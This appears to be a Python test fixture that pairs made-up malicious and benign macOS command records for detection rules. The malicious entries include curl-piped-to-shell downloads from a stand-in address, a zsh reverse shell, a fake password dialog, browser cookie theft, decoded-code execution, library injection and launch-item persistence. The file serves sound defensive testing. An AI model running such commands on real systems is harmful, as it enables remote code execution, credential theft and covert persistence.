"""Made-up records for the shipped rules about macOS, the first third: attacks and ordinary work near them."""

from tests.rules.macos_documents import ran, wrote
from tests.rules.shipped_samples import Sample

SAMPLES = (
    Sample(
        "AppleScript Asks for a Password in a Dialog",
        ran("""osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer' """),
        ran("""osascript -e 'display dialog "Backup has finished" buttons {"OK"}' """),
    ),
    Sample(
        "AppleScript Runs a Shell That Fetches or Decodes",
        ran("""osascript -e 'do shell script "curl -s http://192.0.2.7/a | sh"' """),
        ran("""osascript -e 'do shell script "date"' """),
    ),
    Sample(
        "Shell of AppleScript Fetches or Decodes",
        ran("sh -c 'curl -s http://192.0.2.7/a -o /tmp/a'", parent="/usr/bin/osascript"),
        ran("sh -c 'date +%s'", parent="/usr/bin/osascript"),
    ),
    Sample(
        "AppleScript Runs a Shell as Administrator",
        ran("""osascript -e 'do shell script "/tmp/i" with administrator privileges' """),
        ran("""osascript -e 'do shell script "ls"' """),
    ),
    Sample(
        "JavaScript for Automation Fetches or Evaluates Code",
        ran("osascript -l JavaScript -e 'eval($.NSString.stringWithContentsOfURL(u))'"),
        ran("osascript -l JavaScript /Users/ann/bin/volume.js"),
    ),
    Sample(
        "AppleScript Reads the Clipboard",
        ran("osascript -e 'return (the clipboard)'"),
        ran("""osascript -e 'set the clipboard to "done"' """),
    ),
    Sample(
        "AppleScript Types for the User",
        ran("""osascript -e 'tell application "System Events" to keystroke return' """),
        ran("""osascript -e 'tell application "System Events" to get dark mode of appearance preferences' """),
    ),
    Sample(
        "Script Put into a Browser by AppleScript",
        ran("""osascript -e 'tell application "Safari" to do JavaScript "document.cookie" in document 1' """),
        ran("""osascript -e 'tell application "Safari" to open location "https://example.org"' """),
    ),
    Sample(
        "AppleScript Gathers Cookies, Keychains or Notes",
        ran("""osascript -e 'tell application "Finder" to duplicate file "Cookies.binarycookies" of x to y' """),
        ran("""osascript -e 'tell application "Finder" to duplicate file "a.txt" of x to y' """),
    ),
    Sample(
        "AppleScript Hides or Ends the Terminal",
        ran("""osascript -e 'tell application "Terminal" to set visible of the front window to false' """),
        ran("killall Dock"),
    ),
    Sample(
        "Another Mac Driven by Remote Apple Events",
        ran("""osascript -e 'tell application "Finder" of machine "eppc://a:b@192.0.2.7" to get name' """),
        ran("systemsetup -getremoteappleevents"),
    ),
    Sample(
        "AppleScript Compiled So That It Cannot Be Read",
        ran("osacompile -x -o /Users/Shared/up.app a.scpt"),
        ran("osacompile -o Tool.app tool.applescript"),
    ),
    Sample(
        "Office Program Starts a Shell or Interpreter (macOS)",
        ran("sh -c 'id'", parent="/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"),
        ran(
            "/usr/bin/open https://example.org", parent="/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
        ),
    ),
    Sample(
        "Mail, Message or Picture Program Starts a Shell",
        ran("bash -c 'curl http://192.0.2.7/a'", parent="/System/Applications/Preview.app/Contents/MacOS/Preview"),
        ran("bash -l", parent="/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"),
    ),
    Sample(
        "Script of a Package Fetches or Digs In",
        ran(
            "curl -o /tmp/a http://192.0.2.7/a",
            parent="/bin/bash",
            parent_command="/bin/bash /tmp/PKInstallSandbox.q1/Scripts/x/postinstall /a /b",
        ),
        ran(
            "chmod 755 /Applications/A.app",
            parent="/bin/bash",
            parent_command="/bin/bash /tmp/PKInstallSandbox.q1/Scripts/x/postinstall /a /b",
        ),
    ),
    Sample(
        "Package Installed Without Trust or from a Writable Folder",
        ran("installer -pkg /private/tmp/up.pkg -target / -allowUntrusted"),
        ran("installer -pkg /Volumes/Vendor/Tool.pkg -target /"),
    ),
    Sample(
        "Download Piped to an Interpreter (macOS)",
        ran("sh -c 'curl -fsSL https://192.0.2.7/i.sh | bash'"),
        ran("sh -c 'curl -fsSL https://example.org/list | sort'"),
    ),
    Sample(
        "Download from a Bare Address Run at Once (macOS)",
        ran("bash -c 'curl http://192.0.2.7/a -o a; chmod 755 a; ./a'"),
        ran("curl -o a http://192.0.2.7/a"),
    ),
    Sample(
        "Decoded Text Run by an Interpreter (macOS)",
        ran("sh -c 'echo aWQ= | base64 -D | sh'"),
        ran("sh -c 'echo aWQ= | base64 -D > a.bin'"),
    ),
    Sample(
        "Download Made Executable in One Command (macOS)",
        ran("sh -c 'curl -so /tmp/u https://example.net/u && chmod +x /tmp/u && /tmp/u'"),
        ran("sh -c 'curl -so /tmp/u https://example.net/u'"),
    ),
    Sample(
        "Download into a Writable or Hidden Folder (macOS)",
        ran("curl -s -o /Users/Shared/up https://example.net/up"),
        ran("curl -s -o report.pdf https://example.net/report.pdf"),
    ),
    Sample(
        "Download by nscurl",
        ran("nscurl -k https://192.0.2.7/a -o /tmp/a"),
        ran("nscurl --ats-diagnostics https://example.org"),
    ),
    Sample(
        "Reverse Shell in a Command Line (macOS)",
        ran("zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.7 443 && zsh >&$REPLY'"),
        ran("nc -zv 192.0.2.7 443"),
    ),
    Sample(
        "Interpreter Fetches or Decodes Code in One Line (macOS)",
        ran('''python3 -c "import base64;exec(base64.b64decode('aWQ='))"'''),
        ran('''python3 -c "import base64;print(base64.b64decode('aWQ='))"'''),
    ),
    Sample(
        "Library Forced into Programs by the Environment",
        ran("bash -c 'DYLD_INSERT_LIBRARIES=/tmp/a.dylib /Applications/A.app/Contents/MacOS/A'"),
        ran("grep -r DYLD_INSERT_LIBRARIES /usr/local/share/doc"),
    ),
    Sample(
        "Build Step of Xcode Fetches or Decodes",
        ran(
            "sh -c 'echo 6964 | xxd -p -r | sh'",
            parent="/bin/sh",
            parent_command="/bin/sh -c /Users/ann/DerivedData/A/A.build/Script-1.sh",
        ),
        ran(
            "swiftlint lint", parent="/bin/sh", parent_command="/bin/sh -c /Users/ann/DerivedData/A/A.build/Script-1.sh"
        ),
    ),
    Sample(
        "Command File Run from a Download or Disk Image",
        ran("/bin/bash '/Volumes/Flash Player/Install.command'"),
        ran("/bin/bash /Users/ann/src/build.command"),
    ),
    Sample(
        "Program on a Disk Image Starts a Downloader or Decoder",
        ran("openssl enc -aes-256-cbc -d -in x", parent="/Volumes/Player/Player.app/Contents/MacOS/Player"),
        ran("open /Applications", parent="/Volumes/Player/Player.app/Contents/MacOS/Player"),
    ),
    Sample(
        "Program Cut Out of a Script or Unpacked from a Pipe",
        ran("tail -c 58853 /Volumes/Install/Install.command"),
        ran("tail -c 200 /var/log/system.log"),
    ),
    Sample(
        "Hidden Program Run from a User's or Temporary Folder (macOS)",
        ran("/Users/Shared/.up/agent -d"),
        ran("/Users/ann/.cargo/bin/rg todo"),
    ),
    Sample(
        "Program Run from a Temporary or Shared Folder (macOS)",
        ran("/private/tmp/agent --quiet"),
        ran("/private/tmp/PKInstallSandbox.q1/Scripts/x/postinstall"),
    ),
    Sample(
        "Script Run from a Temporary, Shared or Hidden Place (macOS)",
        ran("osascript -l JavaScript /private/tmp/a.js"),
        ran("bash /Users/ann/.config/setup.sh"),
    ),
    Sample(
        "Discovery by a Program in a Writable or Hidden Folder",
        ran("system_profiler SPHardwareDataType", parent="/Users/Shared/agent"),
        ran("system_profiler SPHardwareDataType", parent="/Applications/Utilities/A.app/Contents/MacOS/A"),
    ),
    Sample(
        "Apple's Name on a Program Outside the System",
        ran("/Users/ann/Library/softwareupdated --check"),
        ran(
            "/System/Library/CoreServices/Software\\ Update.app/softwareupdated",
            image="/System/Library/PrivateFrameworks/SoftwareUpdate.framework/softwareupdated",
        ),
    ),
    Sample(
        "Program Dressed as a Document (macOS)",
        ran("Invoice", image="/Users/ann/Downloads/Invoice.pdf.app/Contents/MacOS/Invoice"),
        ran("PDF Expert", image="/Applications/PDF Expert.app/Contents/MacOS/PDF Expert"),
    ),
    Sample(
        "Program Opened from a Writable or Hidden Folder",
        ran("open -n /private/tmp/Updater.app"),
        ran("open -a Safari https://example.org"),
    ),
    Sample(
        "Launch Item Written by a Shell, Interpreter or Download",
        wrote("/bin/bash", "/Users/ann/Library/LaunchAgents/com.example.up.plist"),
        wrote("/usr/libexec/smd", "/Library/LaunchDaemons/com.example.tool.plist"),
    ),
    Sample(
        "Launch Item Moved into Place by a Shell, Interpreter or Download",
        wrote("/bin/mv", "/Library/LaunchDaemons/com.example.up.plist", "rename"),
        wrote("/usr/sbin/installd", "/Library/LaunchDaemons/com.example.tool.plist", "rename"),
    ),
    Sample(
        "Launch Item Written by a Program in a Writable or Hidden Folder",
        wrote("/Users/Shared/agent", "/Users/ann/Library/LaunchAgents/com.example.up.plist"),
        wrote("/Applications/A.app/Contents/MacOS/A", "/Users/ann/Library/LaunchAgents/com.example.a.plist"),
    ),
    Sample(
        "Launch Item with a Hidden Name",
        wrote("/Applications/A.app/Contents/MacOS/A", "/Users/ann/Library/LaunchAgents/.com.a.plist"),
        wrote("/Applications/A.app/Contents/MacOS/A", "/Users/ann/Library/LaunchAgents/.DS_Store"),
    ),
    Sample(
        "Launch Item Under Apple's Name",
        wrote("/usr/bin/python3", "/Library/LaunchDaemons/com.apple.updates.plist"),
        wrote("/usr/bin/python3", "/Library/LaunchDaemons/com.example.updates.plist"),
    ),
    Sample(
        "Launch Item Put in Place by a Command",
        ran("cp /tmp/a.plist /Library/LaunchDaemons/com.example.a.plist"),
        ran("cat /Library/LaunchDaemons/com.example.a.plist"),
    ),
    Sample(
        "Launch Item Composed on the Command Line",
        ran("/usr/libexec/PlistBuddy -c 'Add :RunAtLoad bool true' /Users/ann/Library/LaunchAgents/a.plist"),
        ran("/usr/libexec/PlistBuddy -c 'Print :RunAtLoad' /Users/ann/Library/LaunchAgents/a.plist"),
    ),
    Sample(
        "launchctl Loads from a Writable or Hidden Folder",
        ran("launchctl load -w /tmp/a.plist"),
        ran("launchctl load -w /Library/LaunchDaemons/com.example.a.plist"),
    ),
    Sample(
        "launchctl Called by a Program in a Writable Folder or by AppleScript",
        ran("launchctl load /Users/ann/Library/LaunchAgents/a.plist", parent="/Users/Shared/agent"),
        ran("launchctl load /Users/ann/Library/LaunchAgents/a.plist", parent="/bin/zsh"),
    ),
    Sample(
        "Job Submitted with launchctl",
        ran("launchctl submit -l com.example.up -- /tmp/up"),
        ran("launchctl list com.example.up"),
    ),
    Sample(
        "Login or Logout Hook Set",
        ran("defaults write com.apple.loginwindow LoginHook /Users/Shared/h.sh"),
        ran("defaults read com.apple.loginwindow LoginHook"),
    ),
    Sample(
        "Programs Reopened at Login Changed",
        ran("/usr/libexec/PlistBuddy -c 'Add :TALAppsToRelaunchAtLogin: dict' a.plist"),
        ran("defaults -currentHost read com.apple.loginwindow TALAppsToRelaunchAtLogin"),
    ),
)
